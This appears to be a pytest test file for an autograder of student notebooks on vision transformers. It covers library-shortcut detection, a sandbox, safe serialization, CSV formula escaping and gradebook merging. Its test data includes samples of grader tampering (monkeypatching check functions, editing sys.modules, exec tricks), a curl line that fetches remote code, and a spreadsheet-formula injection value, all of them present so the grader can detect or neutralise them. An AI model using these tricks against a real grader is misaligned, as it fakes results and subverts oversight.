@pytest.mark.parametrize("answer", CAPTURES)
def test_captured_library_functions_are_found_in_the_source(answer):
    forbid = ATTENTION_SHORTCUTS + SOFTMAX
    assert source_rules.violations([answer], forbid), answer


def test_a_helper_bound_in_a_loop_in_another_cell_is_read_too():
    helper = "for KIT in [[torch.softmax]]:\n    pass"
    answer = "def f(q, k, v):\n    return KIT[0](q @ k.mT, -1) @ v"
    reached = source_rules.reached([answer], [helper])
    assert source_rules.violations(reached, SOFTMAX)


@pytest.mark.parametrize(
    "answer",
    [
        "import vitlib.checks as vc\nvc._save_scenario = lambda fn, old, new: (None, old, [], old, new)",
        "setattr(getattr(vitlib, 'che' + 'cks'), 'verdict', print)",
        "import sys\nsys.modules['vitlib.checks'].verdict = print",
        "get_ipython().events.register('pre_run_cell', print)",
        "%xmode Plain\ncheckz = 1\nchecks.check_share_kv = lambda fn: True",
        "def f(:\n    pass",
        # second review: magics, aliases, objects the answer did not create, frames
        "%time c = checks\n%time c._save_scenario = lambda fn, old, new: (None, old, [], old, new)",
        "c = checks\nc._save_scenario = print",
        "math.r = rearrange",
        "import sys\nsys._getframe(1).f_globals['x'] = 1",
        "exec('chec' + 'ks.verdict = print')",
        "!python -c 'print(1)'",
        "import sys\ndef f(images, size):\n    sys.settrace(None)",  # 6a.3's loop counter off
        "def f(images, size):\n    with torch._C.DisableTorchFunction():\n        pass",
    ],
)
def test_tampering_is_read_from_the_source(answer):
    assert source_rules.tampering(answer), answer


def test_the_books_own_solutions_do_not_tamper():
    for path in CHAPTERS:
        for cell in grader.plan(path):
            if cell.kind == "answer":
                assert not source_rules.tampering(cell.source), (
                    path.stem,
                    cell.grade_id,
                )


def test_a_helper_in_another_answer_cell_is_read_too():
    helper = "def my_softmax(x):\n    return x.softmax(-1)"
    answer = "def f(q, k, v):\n    return my_softmax(q @ k.mT) @ v"
    reached = source_rules.reached([answer], [helper, "def unrelated():\n    pass"])
    assert len(reached) == 2
    assert source_rules.violations(reached, SOFTMAX)


@pytest.mark.sandbox
def test_sigterm_keeps_the_previous_grades_and_what_was_graded(tmp_path):
    import signal
    import time

    (tmp_path / "subs" / "zed").mkdir(parents=True)
    hang = {"ex3_1-answer": "import time\ntime.sleep(600)"}
    nbformat.write(submission(RIGHT, hang), tmp_path / "subs" / "zed" / CHAPTER.name)
    out = tmp_path / "grades"
    out.mkdir()
    (out / "grades.csv").write_text("the previous run's grades\n")
    command = [sys.executable, str(ROOT / "scripts" / "coursework.py"), "grade"]
    command += [str(tmp_path / "subs"), "--out", str(out), "--cell-timeout", "300"]
    process = subprocess.Popen(
        command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    time.sleep(20)  # the reference run, then zed's sleeping cell
    process.send_signal(signal.SIGTERM)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 128 + signal.SIGTERM, err
    assert (out / "grades.csv").read_text() == "the previous run's grades\n"
    kept = tmp_path / "grades-interrupted" / "grades.csv"
    assert kept.read_text().startswith("student,notebook,exercise")
    assert "grades-interrupted" in err
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".grades")]


# --- the wire: what a worker sends comes back as plain data, never as code ---

import wire  # noqa: E402


def test_the_wire_carries_tensors_arrays_and_plain_values():
    import numpy as np

    value = {
        "t": torch.randn(2, 3),
        "b": torch.tensor([True, False]),
        "h": torch.ones(2, dtype=torch.bfloat16),
        "a": np.arange(6).reshape(2, 3),
        "n": (1, 2.5, float("nan"), "x", None, [torch.Size([4, 5])]),
        "big": 10**30,
    }
    back = wire.decode(wire.loads(wire.dumps(wire.encode(value))))
    assert torch.equal(back["t"], value["t"]) and back["h"].dtype == torch.bfloat16
    assert torch.equal(back["b"], value["b"]) and (back["a"] == value["a"]).all()
    assert back["n"][:2] == (1, 2.5) and back["n"][2] != back["n"][2]
    assert back["n"][3:] == ("x", None, [(4, 5)]) and back["big"] == 10**30


def test_the_wire_turns_anything_else_into_an_opaque_value():
    class Sneaky:
        def __eq__(self, other):
            return True

    back = wire.decode(wire.encode(Sneaky()))
    assert isinstance(back, wire.Opaque) and back != back and back != 1

    class Lazy(torch.Tensor):  # computes when read: once, the reference ran here
        def detach(self):
            raise AssertionError("the wire ran the submission's code")

    class Liar(int):
        def __eq__(self, other):
            return True

    for value in [torch.zeros(2).as_subclass(Lazy), Liar(3)]:
        back = wire.decode(wire.encode(value))
        assert isinstance(back, wire.Opaque) and "a subclass" in repr(back)
    for broken in [
        {"tensor": "float32", "shape": [3], "data": "AAAA"},  # 3 bytes for 3 floats
        {"tensor": "object", "shape": [1], "data": ""},
        {"pickle": "gASVAAAAAAAAAAA="},
        {"list": [1] * 0, "tuple": [], "dict": [], "x": 1},
    ]:
        with pytest.raises(wire.WireError):
            wire.decode(broken)


def test_a_file_name_cannot_start_a_spreadsheet_formula(tmp_path):
    with open(tmp_path / "g.csv", "w", newline="") as f:
        grader._SafeWriter(f).writerow(["ada", "=HYPERLINK(1)", "-1", 2])
    assert (tmp_path / "g.csv").read_text().strip() == "ada,'=HYPERLINK(1),'-1,2"


def test_a_notebooks_own_config_class_crosses_the_wire_as_vitlibs():
    import dataclasses

    from vitlib.model import ViTConfig

    Local = dataclasses.make_dataclass(  # page 5a defines ViTConfig in the notebook
        "ViTConfig",
        [(f.name, f.type, f.default) for f in dataclasses.fields(ViTConfig)],
    )
    Local.__module__ = "__main__"
    back = wire.decode(
        wire.loads(wire.dumps(wire.encode(Local(img_size=28, patch_size=7))))
    )
    assert back == ViTConfig(img_size=28, patch_size=7)


HONEST = [  # answers a student may well write: no rule may flag them
    "import gc\ngc.collect()",
    "def f(model):\n    return [m for m in model.modules()]",
    "def f(config):\n    return dict(config.__dict__)",
    "events = []\nevents.append(1)",
    "def f(x):\n    assert x.ndim == 3, 'before the softmax, (b, n, n)'\n    return x",
    "@torch.compile\ndef f(x):\n    return x * 2",
    "def f(q, k, v):\n    softmax_weights = (q @ k.mT).exp()\n"
    "    softmax_weights = softmax_weights / softmax_weights.sum(-1, keepdim=True)\n"
    "    return softmax_weights @ v",
    "%%time\ndef f(q, k, v):  # softmax by hand\n    return q",
    "import matplotlib.pyplot as plt\nplt.title('softmax over the keys')",
    # what students write for themselves in Jupyter and Colab
    "%load_ext autoreload\n%autoreload 2\ndef f(x):\n    return x",
    "torch.randn?\ntorch.randn??\n?torch.zeros",
    "%config InlineBackend.figure_format = 'retina'\n%matplotlib inline",
    'import sys\nif "google.colab" in sys.modules:\n    from google.colab import drive',
    "if 'google.colab' not in sys.modules:\n    print('local')",
    "#@title Exercise { display-mode: 'form' }\nsize = 16  #@param {type:'integer'}",
    "%%capture\nx = 1",
    "%timeit -n 1 -r 1 x = 1",
]


@pytest.mark.parametrize(
    "line, said",
    [
        ("%pip install einops", "einops is there"),
        ("!pip install -q timm==1.0.9", "timm is there"),
        (
            "  !python -m pip install --upgrade not-a-package-here",
            "not-a-package-here is not",
        ),
        ("%conda install -y numpy", "numpy is there"),
    ],
)
def test_an_install_is_taken_out_and_noted(line, said):
    cell = f"if True:\n{line}\nx = 1" if line.startswith(" ") else f"{line}\nx = 1"
    cell, notes = source_rules.without_habits(cell)
    assert line.strip() not in cell and "x = 1" in cell
    assert source_rules.without_habits("%matplotlib inline\nx = 1") == (
        "pass\nx = 1",
        [],
    )
    assert not source_rules.tampering(cell), cell
    assert notes == [
        f"`{line.strip()}` was not run: grading installs nothing ({said}"
        + (", and an answer that imports it fails)" if " is not" in said else ")")
    ]


@pytest.mark.parametrize(
    "answer",
    [
        "%load_ext my_extension",  # an extension runs code the grader cannot read
        "%config InteractiveShell.ast_transformers = []",
        "import sys\nsys.modules['vitlib.checks'].verdict = print",
        "import sys\nif 'vitlib.checks' in sys.modules:\n    sys.modules['vitlib.checks'].x = 1",
        "!curl http://example.com/answers.py > a.py",
    ],
)
def test_habits_open_no_door(answer):
    assert source_rules.tampering(answer), answer


@pytest.mark.parametrize(
    "answer, found",
    [
        ("from vitlib.checks.attention import _attention as fixed_attention",
         "from vitlib.checks.attention import _attention"),
        ("from vitlib.checks.attention import _share_kv", "import _share_kv"),
        ("import vitlib\nf = vitlib.checks.block._block_parameters", "checks.block._block_parameters"),
        ("def f(d):\n    return checks.attention._attention_parameters(d)", "checks.attention"),
        ("import vitlib.checks.block as b", "import vitlib.checks.block"),
        ("from vitlib import checks as c\ng = c.block._block_parameters", "c.block"),
        ("g = getattr(checks.attention, '_attention')", "getattr(checks.attention"),
    ],
)  # fmt: skip
def test_the_checks_references_are_no_answer(answer, found):
    copied = source_rules.copies([answer])
    assert copied and found in copied[0], copied


def test_calling_a_check_and_the_books_solutions_copy_nothing():
    assert not source_rules.copies(["checks.check_share_kv(share_kv)"])
    assert not source_rules.copies(["from vitlib.model import ViT\nimport vitlib"])
    for path in CHAPTERS:
        for cell in grader.plan(path):
            if cell.kind == "answer":
                assert not source_rules.copies([cell.source]), (
                    path.stem,
                    cell.grade_id,
                )


LAYER_NORMS = [  # ways to have torch compute exercise 4.2's LayerNorm: each is found
    "F.layer_norm(x, x.shape[-1:], weight, bias, eps)",
    "F.group_norm(x.reshape(-1, 1, d), 1, eps=eps).reshape(x.shape) * weight + bias",
    "F.instance_norm(x.reshape(1, -1, d), eps=eps).reshape(x.shape) * weight + bias",
    "F.batch_norm(x.reshape(-1, d).T, None, None, training=True, eps=eps).T.reshape(x.shape)",
    "torch.nn.LayerNorm(d, eps=eps)(x)",
    "nn.GroupNorm(1, 1, eps=eps)(x.reshape(-1, 1, d)).reshape(x.shape)",
    "torch.native_layer_norm(x, [d], weight, bias, eps)[0]",
    "F.rms_norm(x - x.mean(-1, keepdim=True), (d,), weight, eps) + bias",
    "F.normalize(x - x.mean(-1, keepdim=True), dim=-1) * d**0.5 * weight + bias",
    "torch.batch_norm(x.reshape(-1, d).T, None, None, None, None, True, 0.0, eps, False).T",
]


@pytest.mark.parametrize("expression", LAYER_NORMS)
def test_library_equivalents_of_layer_norm_are_found(expression):
    answer = f"def layer_norm(x, weight, bias, eps):\n    d = x.shape[-1]\n    return {expression}"
    assert source_rules.violations([answer], ["torch.nn.functional.layer_norm"]), answer


@pytest.mark.parametrize("answer", HONEST)
def test_honest_answers_are_not_flagged(answer):
    assert not source_rules.tampering(answer), answer
    assert not source_rules.violations([answer], ATTENTION_SHORTCUTS + SOFTMAX)


def test_a_later_or_unrelated_cell_is_not_read_with_an_exercise():
    own = RIGHT["ex3_1-answer"]
    other = (
        "import torch\nq = torch.randn(2, 5, 8)\n\n\ndef fixed_attention(q, k, v):\n"
    )
    other += "    return (q @ k.mT / q.shape[-1] ** 0.5).softmax(dim=-1) @ v"
    reached = source_rules.reached([own], [other])
    assert not source_rules.violations(reached, ATTENTION_SHORTCUTS + SOFTMAX)


@pytest.mark.sandbox
def test_the_notebooks_time_limit_bounds_a_submission(tmp_path):
    """--timeout is the notebook's whole budget: the cells it did not reach score zero, with
    the reason, and the run goes on."""
    import time

    (tmp_path / "subs" / "ada").mkdir(parents=True)
    slow = {"ex3_2-answer": "import time\ntime.sleep(8)\n" + RIGHT["ex3_2-answer"]}
    nbformat.write(submission(RIGHT, slow), tmp_path / "subs" / "ada" / CHAPTER.name)
    start = time.monotonic()
    result = _grade(tmp_path / "subs", tmp_path / "out", "--timeout", "12")
    assert result.returncode == 0, result.stderr
    rows = _rows(tmp_path / "out")
    assert any("time limit of" in rows["ada", e]["status"] for e in FULL), rows
    assert scores(rows, "ada")["3.1"] == 2  # graded before the budget ran out
    assert time.monotonic() - start < 120


@pytest.mark.parametrize("busy", ["slow", "deaf"])
def test_a_replay_on_a_busy_machine_costs_the_next_cell_nothing(monkeypatch, busy):
    """After a worker is stopped (kim's), a new one runs the earlier cells again. On a loaded
    machine a replayed cell can be slow ("slow": past its limit, interrupted) or slow to
    listen ("deaf": stopped); neither may cost the next exercise its points."""
    from sandbox import WorkerGone

    Cell = grader.Cell
    cells = [
        Cell(0, "code", "setup"),
        Cell(1, "answer", "", "ex1-answer"),
        Cell(2, "grade", "", "ex1", 1),
        Cell(3, "answer", "", "ex2-answer"),
        Cell(4, "grade", "", "ex2", 1),
    ]
    workers = []

    class Worker:  # the setup cell is slow in the first replay only
        def __init__(self, *args, **kwargs):
            self.ran, self.whole = [], True
            workers.append(self)

        def run(self, source, grade=False, seconds=0):
            if source == "setup" and len(workers) == 2:
                if busy == "deaf":
                    raise WorkerGone("it ran past it and ignored the interrupt")
                self.whole = False  # interrupted: what the cell defines is missing
                return {"timed_out": True}
            self.ran.append(source)
            return {}

        def memory_kills(self):
            return 0

        def close(self):
            pass

    def check(cell, session, *rest):
        if cell.grade_id == "ex1":  # kim's answer: it stops listening
            raise WorkerGone("the time limit of 10 s: it stopped reading its inputs")
        right = session.whole and "answer 2" in session.ran
        return grader.Result(int(right), "graded")

    monkeypatch.setattr(grader, "Session", Worker)
    monkeypatch.setattr(grader, "check", check)
    graded = grader.grade_submission(
        cells,
        {"ex1-answer": "answer 1", "ex2-answer": "answer 2"},
        {},
        grader.Limits(cell_seconds=10),
        None,
        False,
        (),
        900,
    )
    assert graded.results["ex1"].score == 0
    assert graded.results["ex2"].score == 1, graded.notes
    assert len(workers) == 3  # the first, the replay that failed, the one that worked


def test_the_sandbox_runs_this_python_where_its_environment_really_is(
    tmp_path, monkeypatch
):
    import sandbox

    real = tmp_path / "envs" / "book"
    (real / "bin").mkdir(parents=True)
    (real / "bin" / "python").write_text("")
    (tmp_path / ".venv").symlink_to(real)  # a .venv that is a link to elsewhere
    monkeypatch.setattr(sys, "prefix", str(tmp_path / ".venv"))
    monkeypatch.setattr(sys, "executable", str(tmp_path / ".venv" / "bin" / "python"))
    assert sandbox.python() == real / "bin" / "python"
    assert sandbox.python().parent.parent in sandbox._binds()


# --- the instructor's loop: hand grades merged, one gradebook row per student

import gradebook as book_of_grades  # noqa: E402


def _grades_csv(folder, rows):
    folder.mkdir(parents=True, exist_ok=True)
    with open(folder / "grades.csv", "w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(grader.COLUMNS)
        writer.writerows(rows)


def test_hand_grades_are_listed_merged_and_totalled(tmp_path):
    out, hand = tmp_path / "grades", tmp_path / "hand_grades.csv"
    _grades_csv(out, [
        ["ada", "03_attention.ipynb", "3.1", "2", "2", "graded", ""],
        ["ada", "03_attention.ipynb", "3.6", "", "2", "needs manual grading", ""],
        ["bo", "Copy of 03_attention (1).ipynb", "3.1", "0", "2", "library used", ""],
        ["bo", "Copy of 03_attention (1).ipynb", "3.6", "", "2", "needs manual grading", ""],
        ["bo", "04_block.ipynb", "4.1", "1", "1", "graded", ""],
        ["cy", "notes.txt", "", "", "", "not graded: not a chapter", ""],
    ])  # fmt: skip
    found = book_of_grades.merge(out, hand)
    assert (found["typed"], found["waiting"], found["students"]) == (0, 2, 3)
    listed = book_of_grades.read_rows(hand)  # a row to fill in for each written answer
    assert [(r["student"], r["exercise"], r["score"]) for r in listed] == [
        ("ada", "3.6", ""),
        ("bo", "3.6", ""),
    ]
    listed[0].update(score="1.5", comment="two differences, no measure")
    listed[1].update(
        score="3"
    )  # more than the exercise's 2 points: refused, not capped
    with open(hand, "w", newline="") as f:
        writer = csv.DictWriter(f, book_of_grades.HAND_COLUMNS)
        writer.writeheader()
        writer.writerows(listed)
    found = book_of_grades.merge(out, hand)
    assert (found["typed"], found["waiting"]) == (1, 1)
    assert "bo/Copy of 03_attention (1).ipynb/3.6 has score '3'" in found["problems"][0]
    rows = {
        (r["student"], r["exercise"]): r
        for r in book_of_grades.read_rows(out / "grades.csv")
    }
    assert rows["ada", "3.6"]["status"] == "graded by hand"
    assert rows["ada", "3.6"]["score"] == "1.5"
    assert rows["ada", "3.6"]["feedback"] == "two differences, no measure"
    assert rows["bo", "3.6"]["status"] == "needs manual grading"
    book = book_of_grades.read_rows(out / "gradebook.csv")
    assert list(book[0]) == ["student", "03_attention", "04_block", "total", "possible"]
    assert [list(r.values()) for r in book] == [
        ["ada", "3.5", "", "3.5", "5"],
        ["bo", "0", "1", "1", "5"],  # 2 + 2 in chapter 3, 1 in chapter 4
        ["cy", "", "", "0", "5"],
    ]
    assert (
        book_of_grades.read_rows(hand)[0]["score"] == "1.5"
    )  # a run keeps what you typed
